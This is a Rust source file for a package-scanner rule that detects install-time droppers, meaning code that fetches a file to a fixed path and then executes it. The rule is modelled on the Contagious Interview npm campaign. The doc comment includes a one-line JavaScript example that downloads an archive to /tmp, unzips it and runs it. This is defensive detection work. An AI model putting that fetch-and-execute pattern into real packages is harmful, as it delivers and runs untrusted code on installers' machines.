//! # A command names the file that was fetched
//!
//! ## What it finds
//! At install or import time: something is fetched and written to a path that stands in the code, and a command line of the same
//! file names that path.
//!
//! ## Why it matters
//! A program that is streamed into a file and started by a shell leaves no value to follow: the path is the only thing that both
//! halves share. Droppers of the Contagious Interview campaign (npm, 2024–26) fetch an interpreter as an archive, unpack it with
//! the system's `tar` or `unzip` and start it.
//!
//! ## Example
//! ```js
//! https.get(url, (r) => r.pipe(fs.createWriteStream("/tmp/p.zip")).on("close", () => exec("unzip -o /tmp/p.zip -d /tmp/p && /tmp/p/run")));
//! ```
//!
//! ## What to do
//! Do not install.
//!
//! ## When it is wrong
//! Installers of compilers and browsers unpack what they fetched; they do so below the package's own folder, which is no constant.
use foretaste_engine::prelude::*;

use crate::code;

declare_rule! {
    FetchedFileStarted,
    id: "fetched-file-started",
    title: "a command uses the file that was fetched",
    group: Chain,
    severity: High,
    confidence: High,
    needs: [Code],
    tags: ["T1105", "T1059"],
    since: "0.1.0",
}

impl FileRule for FetchedFileStarted {
    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
        let uses = &file.facts.uses;
        let fetches = uses.iter().find(|u| {
            code::talks(u)
                && u.capability.is_network_source()
                && file.context(u.function) <= ExecutionContext::Import
        });
        let Some(fetches) = fetches else {
            return Vec::new();
        };
        let finding = uses.iter().filter(|u| writes(u)).find_map(|writes| {
            let path = writes.constants.iter().find(|c| is_place(c))?;
            let starts = uses.iter().find(|u| {
                code::spawns(u)
                    && file.context(u.function) <= ExecutionContext::Import
                    && u.constants.iter().any(|line| line.contains(&**path))
                    && !only_removes(u)
            })?;
            let context = file
                .context(writes.function)
                .max(file.context(starts.function));
            (context <= ExecutionContext::Import).then(|| {
                self.finding(format!(
                    "fetches a file and starts a command with it {}",
                    context.phrase()
                ))
                .context(context)
                .evidence(file.use_evidence(fetches, EvidenceRole::Source, &*fetches.api))
                .evidence(file.use_evidence(writes, EvidenceRole::Transform, &**path))
                .evidence(file.use_evidence(
                    starts,
                    EvidenceRole::Sink,
                    &*starts.api,
                ))
            })
        });
        finding.into_iter().collect()
    }
}

fn writes(used: &Use) -> bool {
    matches!(
        used.capability,
        Capability::FileWrite | Capability::NetworkDownload
    )
}

/// True for a path outside of the package: absolute, in a home folder, or of a variable.
fn is_place(text: &str) -> bool {
    let absolute = text.starts_with(['/', '~', '%']) || text.get(1..3) == Some(":\\");
    absolute && text.len() >= 6 && !text.contains("{}") && !text.starts_with("/dev/")
}

/// True for a command that only takes the file away again.
fn only_removes(used: &Use) -> bool {
    let line = code::command_line(used);
    code::words(&line)
        .next()
        .is_some_and(|first| ["rm", "del", "chmod", "ls"].contains(&code::program_name(first)))
        && !line.contains(['&', ';', '|'])
}
